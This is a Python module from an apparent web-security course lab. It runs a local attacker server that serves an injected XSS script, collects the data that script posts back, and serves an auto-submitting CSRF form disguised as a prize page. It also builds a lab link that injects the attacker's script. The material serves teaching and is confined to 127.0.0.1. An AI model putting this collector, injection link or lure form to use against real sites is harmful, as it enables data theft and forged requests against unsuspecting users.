"""The attacker's side of lesson 08's browser scenario: a web server of its own, on another site than the lab.

It serves the injected script (``coursekit/labtools/web/xss.js``), collects what that script sends, and serves a
page with a form that posts to the lab as soon as it loads (the classic CSRF shape). ``coursekit.labtools.browser``
drives a real Chromium between this server and the lab.
"""

from __future__ import annotations

import html
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

__all__ = ["Attacker", "start_attacker", "page_link"]

_WEB = Path(__file__).resolve().parent / "web"


class Attacker:
    """The attacker's web server on 127.0.0.1: the injected script, a collector, and a cross-site form page."""

    MAX_KEPT = 100  # collected messages kept (the collector is bounded)

    def __init__(self) -> None:
        self.collected: list[dict] = []
        self._lock = threading.Lock()
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                parts = urlsplit(self.path)
                if parts.path == "/xss.js":
                    self._answer(200, "text/javascript", (_WEB / "xss.js").read_bytes())
                elif parts.path == "/cross-site":
                    query = {k: v[0] for k, v in parse_qs(parts.query).items()}
                    self._answer(200, "text/html; charset=utf-8", _form_page(query).encode())
                else:
                    self._answer(404, "text/plain", b"not here")

            def do_POST(self) -> None:
                if urlsplit(self.path).path != "/collect":
                    self._answer(404, "text/plain", b"not here")
                    return
                size = min(int(self.headers.get("Content-Length") or 0), 65536)
                body = self.rfile.read(size)
                try:
                    message = json.loads(body)
                except ValueError:
                    message = {"unreadable": body.decode(errors="replace")}
                with attacker._lock:
                    if len(attacker.collected) < attacker.MAX_KEPT:
                        attacker.collected.append(message)
                self._answer(204, "text/plain", b"")

            def _answer(self, status: int, kind: str, body: bytes) -> None:
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args) -> None:  # keep notebook outputs clean
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_address[1]
        # Polled every 50 ms for close(), not every 500 ms (the default): closing takes no noticeable time.
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True,
                         name="attacker").start()

    def url(self, host: str = "127.0.0.1") -> str:
        return f"http://{host}:{self.port}"

    def take(self) -> list[dict]:
        """What the collector received since the last take."""
        with self._lock:
            taken, self.collected = self.collected, []
        return taken

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def __enter__(self) -> "Attacker":
        return self

    def __exit__(self, *exc) -> None:
        self.close()


_attacker: Attacker | None = None


def start_attacker() -> Attacker:
    """The notebook's attacker server: started once, and started afresh when a notebook runs again."""
    global _attacker
    if _attacker is not None:
        _attacker.close()
    _attacker = Attacker()
    return _attacker


def page_link(lab, attacker: Attacker) -> str:
    """The lab page's address, as the scenario opens it: on localhost, with the attacker's script to inject."""
    return f"http://localhost:{lab.port}/app/?inject=" + quote(attacker.url() + "/xss.js", safe=":/")


def _form_page(query: dict) -> str:
    """A page that submits a form to another site as soon as it loads (the classic CSRF shape)."""
    action = html.escape(query.get("action", ""), quote=True)
    method = "get" if query.get("method") == "get" else "post"
    return (f'<!doctype html><title>You won a prize</title><form id="f" method="{method}" action="{action}">'
            '<input type="hidden" name="prize" value="yes"></form>'
            '<script>document.getElementById("f").submit()</script>')
